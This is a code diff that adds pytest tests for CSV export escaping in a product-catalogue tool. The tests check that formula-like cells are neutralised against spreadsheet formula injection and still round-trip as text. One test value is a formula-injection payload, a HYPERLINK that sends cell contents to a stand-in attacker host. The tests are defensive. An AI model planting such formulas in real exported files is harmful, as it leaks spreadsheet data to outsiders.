@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from pathlib import Path
 
@@ -107,3 +108,50 @@ def test_sql_looking_text_is_imported_as_text(config: Path, tmp_path: Path) -> N
     path.write_text(f'sku,name,price\nE-1,"{evil}",1\n')
     assert shopbell(config, "products", "import", str(path)).exit_code == 0
     assert rows(config, "SELECT name FROM products") == [(evil,)]
+
+
+# The cells a spreadsheet runs as formulas when a CSV is opened (OWASP, "CSV Injection").
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+SUM(1)",
+    "-2+3",
+    "@SUM(A1)",
+]
+
+
+@pytest.mark.parametrize(
+    "text", [*FORMULAS, "\t=1+1", "\r=1+1", "'=looks escaped", "'", "''-1", "plain", ""]
+)
+def test_a_cell_is_escaped_only_where_a_spreadsheet_would_run_it(text: str) -> None:
+    cell = catalog_csv.escape_cell(text)
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert catalog_csv.unescape_cell(cell) == text
+    assert cell == text or cell == "'" + text
+
+
+def test_exported_cells_never_start_a_formula_and_import_reads_them_back(
+    config: Path, tmp_path: Path
+) -> None:
+    source = io.StringIO()
+    writer = csv.writer(source, lineterminator="\n")
+    writer.writerow(["sku", "name", "brand", "category", "price"])
+    for n, formula in enumerate(FORMULAS):
+        writer.writerow([f"F-{n}", formula, formula, formula, "1"])
+    writer.writerow(["=1+1", "sku itself", "", "", "1"])
+    first = tmp_path / "formulas.csv"
+    first.write_text(source.getvalue())
+    imported = shopbell(config, "products", "import", str(first))
+    assert imported.exit_code == 0, imported.output
+    stored = rows(config, "SELECT sku, name, brand, category FROM products ORDER BY id")
+    # Stored as the text the shop typed: the rule is about the file, not the catalogue.
+    assert [name for _, name, _, _ in stored[: len(FORMULAS)]] == FORMULAS
+
+    out = tmp_path / "out.csv"
+    assert shopbell(config, "products", "export", str(out)).exit_code == 0
+    cells = [cell for row in list(csv.reader(io.StringIO(out.read_text())))[1:] for cell in row]
+    live = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert live == []
+
+    # Imported again, the file gives back every text exactly.
+    again = list(catalog_csv.parse(io.StringIO(out.read_text()), "INR"))
+    assert [(r.sku, r.name, r.brand, r.category) for r in again] == stored
